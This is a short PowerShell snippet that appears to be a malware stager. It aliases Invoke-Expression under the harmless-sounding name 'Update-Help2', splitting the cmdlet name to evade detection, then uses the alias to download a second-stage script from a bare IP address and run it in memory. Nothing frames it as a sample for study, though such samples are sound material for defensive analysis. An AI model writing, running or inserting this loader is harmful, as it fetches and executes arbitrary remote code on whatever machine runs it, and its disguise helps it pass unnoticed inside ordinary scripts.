Set-Alias -Name Update-Help2 -Value ('Invoke-' + 'Expression')
Update-Help2 (Invoke-RestMethod -Uri http://198.51.100.23/stage2.ps1)
